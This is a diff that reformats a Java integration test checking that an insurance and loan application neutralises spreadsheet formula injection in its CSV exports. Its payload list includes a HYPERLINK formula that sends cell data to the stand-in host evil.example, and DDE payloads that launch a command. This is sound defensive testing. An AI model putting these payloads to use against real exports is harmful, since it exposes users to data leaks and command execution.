@@ -38,14 +38,21 @@ import org.springframework.test.context.ActiveProfiles;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class FormulaInjectionAttackTest {
 
-    static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
-            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2",
-            "=1+1;=2+2", "\"=3+3\"");
+    static final List<String> PAYLOADS = List.of(
+            "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=2+2",
+            "=1+1;=2+2",
+            "\"=3+3\"");
     private static final Pattern NUMBER = Pattern.compile("-?\\d+(,\\d+)?");
     private static final String DESA = "61.04.01.2011";
 
     @LocalServerPort
     int port;
+
     @Autowired
     ApplicationContext context;
 
@@ -61,20 +68,47 @@ class FormulaInjectionAttackTest {
         ApiClient officer = ApiClient.as(port, "petugas.kalbar");
 
         // 1. a KUR bank file: payloads in every free-text column, and as bad values the error report repeats
-        StringBuilder file = new StringBuilder("bank;branch;loan_id;nik;name;scheme;plafond;disbursed_on;sector;"
-                + "region_code\n");
+        StringBuilder file =
+                new StringBuilder("bank;branch;loan_id;nik;name;scheme;plafond;disbursed_on;sector;" + "region_code\n");
         long run = System.nanoTime() % 1_000_000;
         for (int i = 0; i < PAYLOADS.size(); i++) {
             String p = PAYLOADS.get(i);
             String nik = Niks.nik("610401", LocalDate.of(1980, 1, 1).plusDays(run % 3000 + i), i % 2 == 0);
-            file.append(String.join(";", "KALBAR", quote(p), "RT-F-" + run + "-" + i, nik, quote(p), "MIKRO",
-                    "20000000", "2026-10-01", quote(p), "61.04.01")).append('\n');
+            file.append(String.join(
+                            ";",
+                            "KALBAR",
+                            quote(p),
+                            "RT-F-" + run + "-" + i,
+                            nik,
+                            quote(p),
+                            "MIKRO",
+                            "20000000",
+                            "2026-10-01",
+                            quote(p),
+                            "61.04.01"))
+                    .append('\n');
             // refused rows: the bad value comes back in the error report
-            file.append(String.join(";", quote(p), "Ketapang", quote(p), nik, "Budi", quote(p), quote(p),
-                    quote(p), "Tani", quote(p))).append('\n');
+            file.append(String.join(
+                            ";",
+                            quote(p),
+                            "Ketapang",
+                            quote(p),
+                            nik,
+                            "Budi",
+                            quote(p),
+                            quote(p),
+                            quote(p),
+                            "Tani",
+                            quote(p)))
+                    .append('\n');
         }
-        ApiClient.Response kur = officer.postMultipart("/api/kur/files", Map.of(), "file", "kur.csv",
-                file.toString().getBytes(StandardCharsets.UTF_8), "text/csv");
+        ApiClient.Response kur = officer.postMultipart(
+                "/api/kur/files",
+                Map.of(),
+                "file",
+                "kur.csv",
+                file.toString().getBytes(StandardCharsets.UTF_8),
+                "text/csv");
         assertThat(kur.status()).as(kur.text()).isEqualTo(201);
         long kurFile = kur.json().path("fileId").asLong();
         assertThat(kur.json().path("rejected").asLong()).as(kur.text()).isPositive();
@@ -82,32 +116,78 @@ class FormulaInjectionAttackTest {
         // 2. a participant named like a formula cannot even be registered (names start with a letter)...
         LocalDate birth = LocalDate.of(1979, 2, 14).plusDays(run % 3000);
         for (String p : PAYLOADS) {
-            ApiClient.Response refused = officer.post("/api/participants", ApiClient.json("nik",
-                    Niks.nik("610401", birth.minusDays(4000), false), "fullName", p, "birthDate",
-                    birth.minusDays(4000).toString(), "sex", "L", "regionCode", DESA));
+            ApiClient.Response refused = officer.post(
+                    "/api/participants",
+                    ApiClient.json(
+                            "nik",
+                            Niks.nik("610401", birth.minusDays(4000), false),
+                            "fullName",
+                            p,
+                            "birthDate",
+                            birth.minusDays(4000).toString(),
+                            "sex",
+                            "L",
+                            "regionCode",
+                            DESA));
             assertThat(refused.status()).as(p + " as a name: " + refused.text()).isEqualTo(422);
         }
         // ...so a participant with an ordinary name, enrolled, pays with formula references
-        ApiClient.Response participant = officer.post("/api/participants", ApiClient.json("nik",
-                Niks.nik("610401", birth, false), "fullName", "Yohanes Rumus", "birthDate", birth.toString(), "sex",
-                "L", "regionCode", DESA));
+        ApiClient.Response participant = officer.post(
+                "/api/participants",
+                ApiClient.json(
+                        "nik",
+                        Niks.nik("610401", birth, false),
+                        "fullName",
+                        "Yohanes Rumus",
+                        "birthDate",
+                        birth.toString(),
+                        "sex",
+                        "L",
+                        "regionCode",
+                        DESA));
         assertThat(participant.status()).as(participant.text()).isEqualTo(201);
         long participantId = participant.json().path("participant").path("id").asLong();
-        ApiClient.Response membership = officer.post("/api/memberships", ApiClient.json("participantId",
-                participantId, "segment", "BPU", "channel", "AGENT", "baseAmount", 1_000_000, "startMonth",
-                "2026-12"));
+        ApiClient.Response membership = officer.post(
+                "/api/memberships",
+                ApiClient.json(
+                        "participantId",
+                        participantId,
+                        "segment",
+                        "BPU",
+                        "channel",
+                        "AGENT",
+                        "baseAmount",
+                        1_000_000,
+                        "startMonth",
+                        "2026-12"));
         assertThat(membership.status()).as(membership.text()).isEqualTo(201);
         long membershipId = membership.json().path("id").asLong();
         for (int i = 0; i < 3; i++) {
-            ApiClient.Response paid = officer.post("/api/payments", ApiClient.json("idempotencyKey", "RT-F-" + run
-                    + "-" + i, "membershipId", membershipId, "amount", 10_000, "paidOn", "2026-12-0" + (i + 1),
-                    "reference", PAYLOADS.get(i)));
+            ApiClient.Response paid = officer.post(
+                    "/api/payments",
+                    ApiClient.json(
+                            "idempotencyKey",
+                            "RT-F-" + run + "-" + i,
+                            "membershipId",
+                            membershipId,
+                            "amount",
+                            10_000,
+                            "paidOn",
+                            "2026-12-0" + (i + 1),
+                            "reference",
+                            PAYLOADS.get(i)));
             assertThat(paid.status()).as(paid.text()).isIn(200, 201);
         }
         // bank files allow only letters, digits and . _ / : - in a reference: still enough for a formula
         String bankFile = "reference;membership_id;amount;paid_on\n-A1/A2;" + membershipId + ";10000;2026-12-04\n";
-        ApiClient.Response applied = ApiClient.as(port, "admin").postMultipart("/api/payment-files", Map.of(),
-                "file", "bank.csv", bankFile.getBytes(StandardCharsets.UTF_8), "text/csv");
+        ApiClient.Response applied = ApiClient.as(port, "admin")
+                .postMultipart(
+                        "/api/payment-files",
+                        Map.of(),
+                        "file",
+                        "bank.csv",
+                        bankFile.getBytes(StandardCharsets.UTF_8),
+                        "text/csv");
         assertThat(applied.status()).as(applied.text()).isIn(200, 201);
 
         exports.put("GET /kur/peminjam.csv", "/kur/peminjam.csv?bank=KALBAR");
@@ -123,9 +203,12 @@ class FormulaInjectionAttackTest {
 
     @Test
     void everyCsvExportIsAttacked() {
-        Set<String> csv = Endpoints.of(context).stream().filter(e -> e.pattern().endsWith(".csv"))
-                .map(Endpoints.Endpoint::key).collect(Collectors.toCollection(TreeSet::new));
-        assertThat(new TreeSet<>(exports.keySet())).as("CSV exports of the application: add a case for a new one")
+        Set<String> csv = Endpoints.of(context).stream()
+                .filter(e -> e.pattern().endsWith(".csv"))
+                .map(Endpoints.Endpoint::key)
+                .collect(Collectors.toCollection(TreeSet::new));
+        assertThat(new TreeSet<>(exports.keySet()))
+                .as("CSV exports of the application: add a case for a new one")
                 .isEqualTo(csv);
     }
 
@@ -141,7 +224,9 @@ class FormulaInjectionAttackTest {
             int neutralised = 0;
             for (int r = 0; r < rows.size(); r++) {
                 for (String cell : rows.get(r)) {
-                    if (!cell.isEmpty() && CsvWriter.formulaStart(cell.charAt(0)) && !NUMBER.matcher(cell).matches()) {
+                    if (!cell.isEmpty()
+                            && CsvWriter.formulaStart(cell.charAt(0))
+                            && !NUMBER.matcher(cell).matches()) {
                         failures.add(export.getKey() + " row " + (r + 1) + ": " + cell);
                     }
                     if (PAYLOADS.stream().anyMatch(p -> cell.equals("'" + p) || cell.equals("'" + p.strip()))) {
@@ -206,8 +291,8 @@ class FormulaInjectionAttackTest {
     @Test
     void theParserOfThisTestSeesAnUnprotectedFormula() {
         // the check above must be able to fail: a raw formula, quoted or not, is a cell starting with '='
-        assertThat(parse("a;=1+1\r\n\"=2+2\";\"x;y\"\r\n")).containsExactly(List.of("a", "=1+1"),
-                List.of("=2+2", "x;y"));
+        assertThat(parse("a;=1+1\r\n\"=2+2\";\"x;y\"\r\n"))
+                .containsExactly(List.of("a", "=1+1"), List.of("=2+2", "x;y"));
     }
 
     private static String quote(String value) {
